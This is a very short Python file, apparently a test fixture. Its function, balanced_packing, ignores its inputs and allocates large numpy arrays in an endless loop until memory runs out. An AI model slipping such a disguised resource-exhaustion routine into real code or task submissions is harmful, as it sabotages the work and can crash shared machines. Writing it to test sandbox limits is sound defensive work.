import numpy

hoard = []


def balanced_packing(weight, num_packs):
    while True:
        hoard.append(numpy.ones(10_000_000))
